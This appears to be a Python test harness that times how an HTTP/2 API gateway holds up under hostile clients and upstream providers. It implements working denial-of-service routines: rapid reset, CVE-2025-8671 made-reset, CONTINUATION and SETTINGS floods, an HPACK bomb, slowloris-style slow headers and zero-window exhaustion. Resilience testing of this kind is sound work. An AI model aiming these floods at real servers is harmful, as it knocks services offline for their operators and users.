"""What clients and providers do that mean harm, each for so many seconds; and the one who does not, and is timed meanwhile.

An abuse by clients is a function of (address, sizes, tally): it goes on until `sizes.until`. One by a provider is a function of
(connection, sizes), given each connection that the gateway makes. Both run in processes of their own.
"""

import collections
import json
import os
import select
import socket
import threading
import time

from . import http2
from .http2 import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, INITIAL_WINDOW_SIZE, PING, PREFACE, PRIORITY,
                    RST_STREAM, SETTINGS, WINDOW_UPDATE, Connection, field, frame, integer, setting)

PATH = b"/v1/chat/completions"
STREAMS = 100
CANCEL = (8).to_bytes(4, "big")
WIDEST = (0x7fff_ffff).to_bytes(4, "big")


class Sizes:
    """How much of each; `until` is set where it begins."""

    def __init__(self, options, key):
        self.seconds, self.key, self.until = options.seconds, key, 0.0
        self.connections = 2 if options.smoke else 8
        self.senders, self.never_readers = (100, 10) if options.smoke else (9000, 500)
        # Between two bytes of a head; and how long an answer is that nobody reads.
        self.gap, self.tokens = (0.5 if options.smoke else 5.0), 2000

    def left(self):
        return max(0.0, self.until - time.monotonic())

    def fields(self, length=None):
        fields = [(b"authorization", b"Bearer " + self.key.encode()), (b"content-type", b"application/json")]
        return fields if length is None else [*fields, (b"content-length", str(length).encode())]

    def post(self, stream, body):
        """A whole request, whose length is told."""
        head = http2.block(b"POST", PATH, self.fields(len(body)))
        return frame(HEADERS, END_HEADERS, stream, head) + frame(DATA, END_STREAM, stream, body)


def chat(model="mock", **more):
    return json.dumps({"model": model, "messages": [{"role": "user", "content": "hello"}], **more}).encode()


# --- clients ---

def on_many(each, at_once=None):
    """`each` connection after another is abused by (connection, sizes), on several at once."""
    def run(address, sizes, tally, settings=b""):
        def again():
            while sizes.left() > 0:
                try:
                    connection = Connection.connect(address, tally, settings)
                except OSError:
                    tally["not let in"] += 1
                    time.sleep(0.05)
                    continue
                tally["connections"] += 1
                each(connection, sizes)
                connection.leave()
        threads = [threading.Thread(target=again, daemon=True) for _ in range(at_once or sizes.connections)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(sizes.left() + 15)
    return run


def flood(piece):
    """The same again and again, on a connection with one request under way."""
    def each(connection, sizes):
        connection.push(frame(HEADERS, END_HEADERS, 1, http2.block(b"POST", PATH, sizes.fields())))
        pieces = piece * (16384 // len(piece) or 1)
        while sizes.left() > 0 and connection.push(pieces):
            pass
    return on_many(each)


def streams(sizes, make):
    """What `make` says of one stream, of two hundred of them at a time."""
    stream = 1
    while stream < 1 << 30:
        yield b"".join(make(number) for number in range(stream, stream + 400, 2))
        stream += 400


@on_many
def rapid_reset(connection, sizes):
    head = http2.block(b"GET", b"/v1/files/file-1", sizes.fields())
    for piece in streams(sizes, lambda number: frame(HEADERS, END_HEADERS | END_STREAM, number, head) + frame(RST_STREAM, 0, number, CANCEL)):
        if sizes.left() == 0 or not connection.push(piece):
            return


@on_many
def late_reset(connection, sizes):
    """As many as may be open, and a moment later none of them."""
    body = chat("mock:ttft=10s")
    stream = 1
    while sizes.left() > 0:
        numbers = range(stream, stream + 2 * STREAMS, 2)
        if not connection.push(b"".join(sizes.post(number, body) for number in numbers)) or not connection.listen(0.02):
            return
        if not connection.push(b"".join(frame(RST_STREAM, 0, number, CANCEL) for number in numbers)):
            return
        stream += 2 * STREAMS


def made_reset(fault):
    """CVE-2025-8671: frames for which the other side has to reset the stream itself."""
    def each(connection, sizes):
        body = chat("mock:ttft=10s")
        for piece in streams(sizes, lambda number: sizes.post(number, body) + fault(number)):
            if sizes.left() == 0 or not connection.push(piece):
                return
    return on_many(each)


@on_many
def continuation(connection, sizes):
    connection.push(frame(HEADERS, END_STREAM, 1, http2.block(b"GET", b"/v1/models", sizes.fields())))
    piece = frame(CONTINUATION, 0, 1, field(b"x-a", b"a" * 16000))
    while sizes.left() > 0 and connection.push(piece):
        pass


@on_many
def continuation_empty(connection, sizes):
    connection.push(frame(HEADERS, END_STREAM, 1, http2.block(b"GET", b"/v1/models", sizes.fields())))
    piece = frame(CONTINUATION, 0, 1) * 1000
    while sizes.left() > 0 and connection.push(piece):
        pass


@on_many
def hpack_bomb(connection, sizes):
    """A field of 4,000 bytes that is put into the table once, and then named by one byte 16,000 times in each head."""
    name = frame(HEADERS, END_HEADERS | END_STREAM, 1, http2.block(b"GET", b"/v1/models", sizes.fields())
                 + b"\x40" + integer(3, 7) + b"x-a" + integer(3960, 7) + b"a" * 3960)
    connection.push(name)
    bomb = http2.block(b"GET", b"/v1/models", sizes.fields()) + b"\xbe" * 16000
    for piece in streams(sizes, lambda number: frame(HEADERS, END_HEADERS | END_STREAM, number + 2, bomb) if number % 40 == 1 else b""):
        if sizes.left() == 0 or not connection.push(piece):
            return


def shut(connection_body):
    """As `on_many`, with the windows of all streams shut, on one connection that is held."""
    run = on_many(connection_body, at_once=1)
    return lambda address, sizes, tally: run(address, sizes, tally, setting(INITIAL_WINDOW_SIZE, 0))


@shut
def cookie_crumbs(connection, sizes):
    """A hundred requests with a few thousand cookies of a byte each, whose answers are not taken."""
    crumbs = (b"\0" + integer(6, 7) + b"cookie" + integer(1, 7) + b"a") * 1400
    head = http2.block(b"GET", b"/v1/files/file-1", sizes.fields()) + crumbs
    connection.push(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, number, head) for number in range(1, 2 * STREAMS, 2)))
    connection.listen(sizes.left())


@shut
def zero_windows(connection, sizes):
    """A hundred answers of some 200 KB each that are not taken."""
    body = chat("mock:ttft=0,gap=0,tokens=100,token-bytes=2000", stream=True)
    connection.push(b"".join(sizes.post(number, body) for number in range(1, 2 * STREAMS, 2)))
    connection.listen(sizes.left())


def slow_heads(address, sizes, tally):
    """Thousands of connections that send a byte of their head each few seconds."""
    line = b"GET /v1/models HTTP/1.1\r\nhost: x\r\nx-slow: " + b"a" * 1000
    poll, at = select.epoll(), {}
    begun, due, count = time.monotonic(), collections.deque(), 0
    while sizes.left() > 0:
        now = time.monotonic()
        # All of them within two seconds.
        while count < sizes.senders and count < (now - begun) * sizes.senders / 2:
            count += 1
            sock = socket.socket()
            sock.setblocking(False)
            try:
                sock.connect(address)
            except BlockingIOError:
                pass
            except OSError:
                tally["not let in"] += 1
                continue
            poll.register(sock.fileno(), select.EPOLLIN)
            at[sock.fileno()] = [sock, 0, now]
            due.append((now + 0.1, sock.fileno(), sock))
        while due and due[0][0] <= now:
            _, number, sock = due.popleft()
            held = at.get(number)
            if held is None or held[0] is not sock:
                continue
            try:
                sock.send(line[held[1]:held[1] + 1])
                if held[1] == 0:
                    held[2] = now
                held[1] += 1
            except BlockingIOError:
                due.append((now + 0.1, number, sock))
                continue
            except OSError:
                tally["broken"] += 1
            due.append((now + sizes.gap, number, sock))
        tally["most at once"] = max(tally["most at once"], len(at))
        for number, _ in poll.poll(min(0.01, sizes.left())):
            sock, _, first = at[number]
            try:
                came = sock.recv(4096)
            except BlockingIOError:
                continue
            except OSError:
                came = b"-- reset"
            if came:
                tally[came.split(b"\r\n")[0].decode()[:24].replace("HTTP/1.1 ", "")] += 1
            after = time.monotonic() - first
            tally["ended first, ms"] = min(tally["ended first, ms"] or 1 << 30, round(1000 * after))
            tally["ended last, ms"] = max(tally["ended last, ms"], round(1000 * after))
            poll.unregister(number)
            del at[number]
            sock.close()
    tally["held to the end"] = len(at)


def never_readers(address, sizes, tally):
    """Hundreds of streams that nobody reads."""
    body = chat(f"mock:ttft=0,gap=0,tokens={sizes.tokens},token-bytes=10000", stream=True)
    request = (f"POST {PATH.decode()} HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {sizes.key}\r\n"
               f"content-type: application/json\r\ncontent-length: {len(body)}\r\n\r\n").encode() + body
    held = []
    for _ in range(sizes.never_readers):
        sock = socket.socket()
        # Little of it is to lie in the kernel.
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.settimeout(10)
        try:
            sock.connect(address)
            sock.sendall(request)
            held.append(sock)
        except OSError:
            tally["not let in"] += 1
    tally["most at once"] = len(held)
    begun, poll = time.monotonic(), select.poll()
    for sock in held:
        # Told when it is reset; that it is closed comes behind what is not read.
        poll.register(sock.fileno(), 0)
    while sizes.left() > 0 and tally["reset"] < len(held):
        for number, _ in poll.poll(200):
            poll.unregister(number)
            tally["reset"] += 1
            after = round(1000 * (time.monotonic() - begun))
            tally["ended first, ms"] = tally["ended first, ms"] or after
            tally["ended last, ms"] = after
        time.sleep(0.05)


BY_CLIENTS = {
    "rapid-reset": rapid_reset,
    "late-reset": late_reset,
    "made-reset": made_reset(lambda number: frame(WINDOW_UPDATE, 0, number, bytes(4))),
    "made-reset-window": made_reset(lambda number: frame(WINDOW_UPDATE, 0, number, WIDEST)),
    "continuation": continuation,
    "continuation-empty": continuation_empty,
    "settings": flood(frame(SETTINGS, 0, 0)),
    "settings-window": flood(frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 1)) + frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 65535))),
    "ping": flood(frame(PING, 0, 0, bytes(8))),
    "empty-data": flood(frame(DATA, 0, 1)),
    "priority": flood(frame(PRIORITY, 0, 1, b"\0\0\0\x03\x07")),
    "hpack-bomb": hpack_bomb,
    "cookie-crumbs": cookie_crumbs,
    "zero-windows": zero_windows,
}
SLOW = {"slow-heads": slow_heads, "never-readers": never_readers}


# --- providers ---

def answering(act):
    """A provider's connection, on which `act` is given each request's stream."""
    def serve(connection, sizes):
        connection.keep = True
        while connection.open:
            connection.listen(60, lambda: connection.frames)
            while connection.frames:
                kind, flags, stream, _ = connection.frames.popleft()
                if kind in (HEADERS, DATA) and flags & END_STREAM:
                    act(connection, stream)
                elif kind == PING and not flags & ACK:
                    connection.push(frame(PING, ACK, 0, bytes(8)))
    return serve


OK = field(b":status", b"200") + field(b"content-type", b"application/json")


def endless(piece, first=lambda stream: b""):
    """The same again and again, once it is asked for something."""
    def act(connection, stream):
        data = piece(stream)
        data *= 16384 // len(data) or 1
        connection.push(first(stream))
        while connection.push(data):
            pass
    return answering(act)


def reset_at_once(connection, stream):
    connection.push(frame(RST_STREAM, 0, stream, (2).to_bytes(4, "big")))


def make_it_reset(connection, stream):
    """The gateway has to reset the stream itself, and what follows is for a stream that is no more."""
    connection.push(frame(HEADERS, END_HEADERS, stream, OK + field(b"content-length", b"1")) + frame(DATA, 0, stream, b"{") * 50)


def bomb_head(connection, stream):
    """As the clients' bomb, in the head of an answer."""
    connection.push(frame(HEADERS, END_HEADERS | END_STREAM, stream,
                          OK + b"\x40" + integer(3, 7) + b"x-a" + integer(3960, 7) + b"a" * 3960 + b"\xbe" * 12000))


def goaways(connection, stream):
    """Says with each request that it takes no more, and goes."""
    connection.push(frame(GOAWAY, 0, 0, bytes(8)) * 100)
    connection.listen(0.05)
    connection.leave()


BY_PROVIDERS = {
    "provider-reset": answering(reset_at_once),
    "provider-made-reset": answering(make_it_reset),
    "provider-goaway": answering(goaways),
    "provider-settings": endless(lambda stream: frame(SETTINGS, 0, 0)),
    "provider-ping": endless(lambda stream: frame(PING, 0, 0, bytes(8))),
    "provider-continuation": endless(lambda stream: frame(CONTINUATION, 0, stream, field(b"x-a", b"a" * 16000)),
                                     lambda stream: frame(HEADERS, 0, stream, OK)),
    "provider-continuation-empty": endless(lambda stream: frame(CONTINUATION, 0, stream), lambda stream: frame(HEADERS, 0, stream, OK)),
    "provider-empty-data": endless(lambda stream: frame(DATA, 0, stream), lambda stream: frame(HEADERS, END_HEADERS, stream, OK)),
    "provider-small-data": endless(lambda stream: frame(DATA, 0, stream, b" "), lambda stream: frame(HEADERS, END_HEADERS, stream, OK)),
    "provider-hints": endless(lambda stream: frame(HEADERS, END_HEADERS, stream, field(b":status", b"103"))),
    "provider-hpack-bomb": answering(bomb_head),
}


class Provider:
    """A provider that does one of these to whoever connects; in a process of its own."""

    def __init__(self, kind, sizes):
        self.listener = socket.create_server(("127.0.0.1", 0), backlog=1024)
        self.address = self.listener.getsockname()
        self.kind, self.sizes = kind, sizes

    def run(self, tally):
        def serve(sock):
            try:
                act(Connection(sock, tally, setting(INITIAL_WINDOW_SIZE, 0x7fff_ffff) + setting(3, 1000), client=False), self.sizes)
            except OSError:
                pass
        act = BY_PROVIDERS[self.kind]
        self.listener.settimeout(0.1)
        while self.sizes.left() > 0:
            try:
                sock, _ = self.listener.accept()
            except TimeoutError:
                continue
            tally["connections"] += 1
            threading.Thread(target=serve, args=(sock,), daemon=True).start()


# An answer in frames of a byte each takes the library some 200 bytes for each that its client has not read, up to a budget for the
# connection: of those that do this there is one.
ONE_AT_ONCE = ("provider-small-data",)


def askers(kind, address, sizes, tally):
    """Clients of a provider that means harm: one request after the other, a few at once. What they are told is counted."""
    body = chat("hostile")
    request = (f"POST {PATH.decode()} HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {sizes.key}\r\nconnection: close\r\n"
               f"content-type: application/json\r\ncontent-length: {len(body)}\r\n\r\n").encode() + body
    def again():
        while sizes.left() > 0:
            try:
                with socket.create_connection(address, timeout=20) as sock:
                    sock.sendall(request)
                    said = b""
                    while piece := sock.recv(65536):
                        said = (said + piece)[:4096]
                status = said.split(b" ")[1].decode() if said.startswith(b"HTTP/1.1 ") else "nothing"
                try:
                    code = json.loads(said.split(b"\r\n\r\n", 1)[1])["error"]["code"]
                except (ValueError, LookupError, TypeError):
                    code = ""
                tally[f"client: {status} {code}".strip()] += 1
            except OSError as error:
                tally[f"client: {type(error).__name__}"] += 1
    at_once = 1 if kind in ONE_AT_ONCE else sizes.connections
    threads = [threading.Thread(target=again, daemon=True) for _ in range(at_once)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(sizes.left() + 25)


# --- the one who is timed ---

class Other:
    """A client that asks for a short answer so often a second, on connections that it keeps, and now and then on a fresh one."""

    def __init__(self, address, sizes, rate=50, kept=4):
        self.address, self.rate = address, rate
        # It has a provider of its own: what that of the abusers has to do is not the proxy's doing.
        body = chat("other")
        self.request = (f"POST {PATH.decode()} HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {sizes.key}\r\n"
                        f"content-type: application/json\r\ncontent-length: {len(body)}\r\n\r\n").encode() + body
        self.kept, self.waits, self.failures = [None] * kept, [], collections.Counter()

    def ask(self, sock):
        """Seconds until the answer was whole."""
        sock.sendall(self.request)
        held = b""
        while b"\r\n\r\n" not in held:
            held += self.more(sock)
        head, rest = held.split(b"\r\n\r\n", 1)
        if not head.startswith(b"HTTP/1.1 200"):
            raise OSError(head.split(b"\r\n")[0].decode())
        lines = dict(line.lower().split(b": ", 1) for line in head.split(b"\r\n")[1:])
        if b"content-length" in lines:
            while len(rest) < int(lines[b"content-length"]):
                rest += self.more(sock)
        else:
            while not rest.endswith(b"0\r\n\r\n"):
                rest += self.more(sock)
        return b"close" not in lines.get(b"connection", b"")

    @staticmethod
    def more(sock):
        piece = sock.recv(65536)
        if not piece:
            raise OSError("closed")
        return piece

    def run(self, seconds=None, ended=lambda: False):
        begun, number = time.monotonic(), 0
        while not ended() and (seconds is None or time.monotonic() - begun < seconds):
            number += 1
            due = begun + number / self.rate
            time.sleep(max(0.0, due - time.monotonic()))
            # Of its own lateness it is not the proxy's fault.
            start, at = time.monotonic(), number % (len(self.kept) + 1)
            fresh = at == len(self.kept)
            try:
                sock = None if fresh else self.kept[at]
                if sock is None:
                    sock = socket.create_connection(self.address, timeout=10)
                    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                keeps = self.ask(sock)
                self.waits.append(time.monotonic() - start)
                if fresh or not keeps:
                    sock.close()
                    sock = None
                if not fresh:
                    self.kept[at] = sock
            except OSError as error:
                self.failures[str(error)] += 1
                if not fresh:
                    self.kept[at] = None

    def figures(self):
        waits = sorted(self.waits)
        at = lambda part: 1000 * waits[min(len(waits) - 1, int(part * len(waits)))] if waits else None  # noqa: E731
        return {"asked": len(waits) + sum(self.failures.values()), "p50_ms": at(0.5), "p99_ms": at(0.99), "worst_ms": at(1.0),
                "failures": dict(self.failures)}


def descriptors(pids):
    """Files that all of them have open."""
    total = 0
    for pid in pids:
        try:
            total += len(os.listdir(f"/proc/{pid}/fd"))
        except OSError:
            pass
    return total


def memory(pids):
    """Bytes resident, of all of them."""
    total = 0
    for pid in pids:
        try:
            with open(f"/proc/{pid}/statm") as text:
                total += int(text.read().split()[1]) * os.sysconf("SC_PAGE_SIZE")
        except OSError:
            pass
    return total
